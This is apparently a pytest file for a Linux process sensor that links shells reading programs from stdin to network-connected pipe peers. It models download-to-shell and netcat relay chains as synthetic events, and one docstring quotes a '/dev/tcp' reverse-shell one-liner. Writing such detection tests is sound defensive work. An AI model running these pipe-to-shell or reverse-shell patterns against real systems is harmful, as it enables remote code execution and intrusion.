"""Stdio peers from kernel pipe inodes (args.stdio.<name>_ino), no /proc needed: the map of
exec'd holders, a peer exec'd after the shell, a peer's later connect."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from sensors.peers import StdioPeers, reads_program_from_stdin
from sensors.proctable import ProcTable

BOOT = "0123456789ab"


def _exec(pid: int, exe: str, argv: list[str], ts: int, **stdio: Any) -> dict[str, Any]:
    return {
        "syscall": "execve",
        "ts_ns": ts,
        "args": {"filename": exe, "argv": argv, "stdio": {"stdin": "tty", "stdout": "tty", **stdio}},
        "process": {
            "pid": pid,
            "ppid": 10,
            "comm": exe.rsplit("/", 1)[-1],
            "exe": exe,
            "entity_id": f"{BOOT}-{pid}-1",
        },
    }


def _connect(pid: int, ts: int, port: int = 80) -> dict[str, Any]:
    return {
        "syscall": "connect",
        "ts_ns": ts,
        "ret": 0,
        "args": {"family": "AF_INET", "addr": "127.0.0.1", "port": port},
        "process": {"pid": pid, "entity_id": f"{BOOT}-{pid}-1"},
    }


def _peers(tmp_path: Path) -> StdioPeers:
    procs = ProcTable(proc=tmp_path, boot=BOOT)
    for pid, exe in ((11, "/tmp/x1"), (12, "/usr/bin/sh"), (13, "/usr/bin/nc")):
        procs.on_exec(pid, 10, exe.rsplit("/", 1)[-1], exe, None)
        procs.learn_start(pid, 10_000_000)
    return StdioPeers(procs, tmp_path)


def test_downloader_exec_first_then_shell_then_connect(tmp_path: Path) -> None:
    sp = _peers(tmp_path)
    sp.on_exec(_exec(11, "/tmp/x1", ["x1", "http://h/s"], 1, stdout="pipe", stdout_ino=500))
    sh = _exec(12, "/usr/bin/sh", ["sh"], 2, stdin="pipe", stdin_ino=500)
    sp.on_exec(sh)
    st = sh["args"]["stdio"]
    assert st["stdin_peer"]["pid"] == 11 and st["stdin_peer"]["net"] is False
    assert st["reads_program_from_stdin"] is True
    c = _connect(11, 3)
    sp.on_connect(c)
    assert c["args"]["stdio_peer_of"] == {
        "pid": 12,
        "entity_id": f"{BOOT}-12-1",
        "exe": "/usr/bin/sh",
        "comm": "sh",
        "stdio": "stdin",
        "reads_program_from_stdin": True,
        "stdin_and_stdout_net": False,
    }
    # already net: a later shell fed by it knows at once
    sh2 = _exec(14, "/usr/bin/sh", ["sh"], 4, stdin="pipe", stdin_ino=501)
    sp.on_exec(_exec(11, "/tmp/x1", ["x1"], 4, stdout="pipe", stdout_ino=501))
    sp.on_exec(sh2)
    assert sh2["args"]["stdio"]["stdin_peer"]["net"] is True


def test_peer_exec_read_after_the_shell_and_relay_on_both_sides(tmp_path: Path) -> None:
    sp = _peers(tmp_path)
    sh = _exec(12, "/usr/bin/sh", ["sh"], 1, stdin="pipe", stdin_ino=600, stdout="pipe", stdout_ino=601)
    sp.on_exec(sh)
    assert "stdin_peer" not in sh["args"]["stdio"]  # nobody known yet (and no /proc here)
    sp.on_exec(_exec(11, "/tmp/x1", ["nc", "h", "1"], 2, stdout="pipe", stdout_ino=600))
    sp.on_exec(_exec(13, "/usr/bin/nc", ["nc", "h", "2"], 2, stdin="pipe", stdin_ino=601))
    first, second = _connect(11, 3, 4444), _connect(13, 4, 4445)
    sp.on_connect(first)
    sp.on_connect(second)
    assert first["args"]["stdio_peer_of"]["stdio"] == "stdin"
    assert first["args"]["stdio_peer_of"]["stdin_and_stdout_net"] is False
    assert second["args"]["stdio_peer_of"]["stdio"] == "stdout"
    assert second["args"]["stdio_peer_of"]["stdin_and_stdout_net"] is True
    # DNS lookups and failed connects do not make a process "net"; stale shells are dropped
    dns = _connect(13, 5, 53)
    sp.on_connect(dns)
    assert "stdio_peer_of" not in dns["args"]


def test_reads_program_from_stdin() -> None:
    yes = [
        ("sh", ["sh"]),
        ("bash", ["bash", "-i"]),
        ("sh", ["sh", "-s", "--", "x"]),
        ("python3", ["python3", "-"]),
        ("busybox", ["sh"]),  # /bin/sh -> busybox
        ("busybox", ["busybox", "sh"]),  # the applet from argv[1]
        ("busybox", ["/x/busybox", "ash", "-s"]),
    ]
    no = [
        ("sh", ["sh", "-c", "id"]),
        ("bash", ["bash", "--noprofile", "--norc", "-eo", "pipefail", "/tmp/step.sh"]),
        ("python3.11", ["python3", "-m", "pip", "install", "x"]),
        ("perl", ["perl", "-e", "print 1"]),
        ("node", ["node", "server.js"]),
        ("busybox", ["cat"]),  # busybox's cat reads data, not a program
        ("busybox", ["busybox", "sh", "-c", "id"]),
        ("busybox", ["busybox", "sh", "/tmp/s.sh"]),
        ("busybox", ["busybox"]),
        ("busybox", ["busybox", "busybox"]),  # busybox's help, no program
    ]
    assert all(reads_program_from_stdin(e, a) for e, a in yes)
    assert not any(reads_program_from_stdin(e, a) for e, a in no)


def test_a_peer_with_an_internet_socket_on_its_stdio_is_net(tmp_path: Path) -> None:
    """bash -c 'exec 3<>/dev/tcp/h/p; cat <&3 | sh': cat reads the socket, no connect of its own."""
    sp = _peers(tmp_path)
    cat = _exec(11, "/tmp/x1", ["cat"], 1, stdout="pipe", stdout_ino=700)
    cat["args"]["stdio"].update(stdin="socket", stdin_family="AF_INET", network=["stdin"])
    sp.on_exec(cat)
    sh = _exec(12, "/usr/bin/sh", ["sh"], 2, stdin="pipe", stdin_ino=700)
    sp.on_exec(sh)
    assert sh["args"]["stdio"]["stdin_peer"]["net"] is True
